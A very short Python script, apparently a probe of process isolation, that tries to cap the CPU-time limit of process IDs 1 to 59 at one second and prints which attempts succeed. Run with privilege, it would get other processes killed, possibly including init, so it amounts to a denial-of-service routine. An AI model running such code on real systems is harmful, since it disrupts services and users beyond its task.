"""Takes processor time away from other processes."""

import os
import resource

for pid in range(1, 60):
    try:
        resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))
        print("LIMITED", pid, pid == os.getpid())
    except (OSError, ValueError):
        pass
